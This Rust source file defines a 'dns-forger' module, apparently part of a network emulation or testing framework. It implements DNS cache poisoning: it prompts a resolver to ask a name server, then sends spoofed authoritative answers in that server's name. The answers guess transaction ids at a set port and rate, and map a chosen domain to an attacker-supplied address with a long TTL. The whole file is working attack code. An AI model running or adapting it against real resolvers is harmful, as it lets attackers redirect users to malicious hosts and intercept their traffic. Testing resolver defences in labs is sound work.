//! `dns-forger`: tries to make a resolver believe an answer that its server never gave.
//!
//! It asks the resolver for a name, so that this asks the name's server, and then sends answers in the server's name, one
//! for each id that it guesses. It sees nothing of what passes between the two: it wins only if port and id are what it
//! thinks, and if it is faster. RFC 5452 tells how likely that is.

use std::net::{IpAddr, SocketAddr};
use std::sync::Arc;
use std::time::Duration;

use domain::base::Ttl;
use domain::base::iana::{Class, OptRcode, Rtype};
use domain::rdata::{A, Aaaa};

use super::settings::read_name;
use crate::app::tally::Tally;
use crate::app::{AppBuilder, Outcome, fields};
use crate::net::control::Through;
use crate::net::{Net, Program, ProgramError, UdpSocket};
use crate::read::{Diagnostic, Field, Form, Kind, Located, Need, Table};
use crate::wire::dns::{Message, Name, PORT, Question, Record};

pub(crate) const KIND: Kind<AppBuilder> = Kind {
    name: "dns-forger",
    doc: "Asks a resolver on its link for a name, and forges the answers of the name's server, guessing ids.",
    example: "liar = { on = \"client\", kind = \"dns-forger\", to = \"server\", in_the_name_of = \"198.51.100.53\", name = \"www.example.com\", address = \"10.6.6.6\", port = 5353 }",
    fields: &[
        Field { name: "to", form: Form::Text, need: Need::Required, doc: "The resolver, on the same link." },
        Field {
            name: "in_the_name_of",
            form: Form::Address,
            need: Need::Required,
            doc: "Whose answers are forged: the address of the server that the resolver will ask.",
        },
        Field { name: "name", form: Form::Text, need: Need::Required, doc: "The name that is lied about." },
        Field { name: "address", form: Form::Address, need: Need::Required, doc: "The address that it is to have." },
        Field {
            name: "port",
            form: Form::Integer { min: 1, max: 65_535 },
            need: Need::Required,
            doc: "The port from which it guesses that the resolver asks.",
        },
        Field {
            name: "first_id",
            form: Form::Integer { min: 0, max: 65_535 },
            need: Need::Default("1"),
            doc: "The first id that it guesses.",
        },
        Field {
            name: "count",
            form: Form::Integer { min: 1, max: 65_536 },
            need: Need::Default("100"),
            doc: "How many ids it guesses, one after the other.",
        },
        Field {
            name: "interval",
            form: Form::Duration,
            need: Need::Default("100us"),
            doc: "From one forged answer to the next.",
        },
        Field {
            name: "wait",
            form: Form::Duration,
            need: Need::Default("1ms"),
            doc: "From the question to the first forged answer.",
        },
    ],
    build,
};

pub(crate) const OUTCOMES: &[Outcome] = &[("sent", "How many forged answers were sent.")];

#[derive(Debug)]
struct Plan {
    to: String,
    in_the_name_of: IpAddr,
    name: Name,
    address: IpAddr,
    port: u16,
    first_id: u16,
    count: u64,
    interval: Duration,
    wait: Duration,
}

fn build(table: &Table<'_>) -> Option<Program> {
    let to: Option<String> = table.need("to");
    let text: Option<Located<String>> = table.need("name");
    let name = text.and_then(|text| {
        let name = read_name(&text.value);
        if name.is_none() {
            let title = format!("`{}` is no domain name", text.value);
            table.reader.report(Diagnostic::new(text.span, title).label("such as \"www.example.com\""));
        }
        name
    });
    let (in_the_name_of, address) = (table.need("in_the_name_of"), table.need("address"));
    let port = fields::port_needed(table);
    let first_id = fields::integer(table, "first_id", 0, 65_535).and_then(|id| u16::try_from(id).ok());
    let plan = Plan {
        to: to?,
        in_the_name_of: in_the_name_of?,
        name: name?,
        address: address?,
        port: port?,
        first_id: first_id.unwrap_or(1),
        count: fields::integer(table, "count", 1, 65_536).unwrap_or(100),
        interval: table.get_or("interval", Duration::from_micros(100)),
        wait: table.get_or("wait", Duration::from_millis(1)),
    };
    let plan = Arc::new(plan);
    Some(Program::new(move |net| run(net, Arc::clone(&plan))))
}

async fn run(net: Net, plan: Arc<Plan>) -> Result<(), ProgramError> {
    let sent = Tally::new(&net, "sent");
    let resolver = net.lookup(&plan.to).await.map_err(|_| fields::unknown_host(&plan.to))?;
    let IpAddr::V4(source) = plan.in_the_name_of else { return Err("forged packets are IPv4 here".into()) };
    let on_link = |one: &crate::net::Interface| one.addresses.iter().any(|net| net.contains(&resolver));
    let interface = net.interfaces()?.into_iter().find(on_link);
    let interface =
        interface.ok_or_else(|| ProgramError::new(format!("{resolver} is not on a link of this machine")))?;
    let rtype = if plan.address.is_ipv4() { Rtype::A } else { Rtype::AAAA };
    let question = Question::new(plan.name.clone(), rtype);
    // From the port of name servers, as their answers are.
    let socket = UdpSocket::bind(&net, PORT)?;
    let asking =
        Message::query(u16::try_from(net.random_below(65_536)).unwrap_or_default(), question.clone(), true, None);
    socket.send_to(&asking.write(usize::MAX), SocketAddr::new(resolver, PORT)).await?;
    net.sleep(plan.wait).await;
    let through = Through { interface: interface.index, source, mac: None };
    for number in 0..plan.count {
        let id = plan.first_id.wrapping_add(u16::try_from(number % 65_536).unwrap_or_default());
        let mut forged = Message::query(id, question.clone(), false, None).answer(OptRcode::NOERROR);
        forged.is_authoritative = true;
        let data = match plan.address {
            IpAddr::V4(address) => A::new(address).into(),
            IpAddr::V6(address) => Aaaa::new(address).into(),
        };
        forged.answers = vec![Record::new(plan.name.clone(), Class::IN, Ttl::from_secs(86_400), data)];
        socket.send_through(&forged.write(usize::MAX), SocketAddr::new(resolver, plan.port), through).await?;
        sent.add(1);
        net.sleep(plan.interval).await;
    }
    net.log(|| format!("{} forged answers sent, ids from {}", sent.get(), plan.first_id));
    Ok(())
}
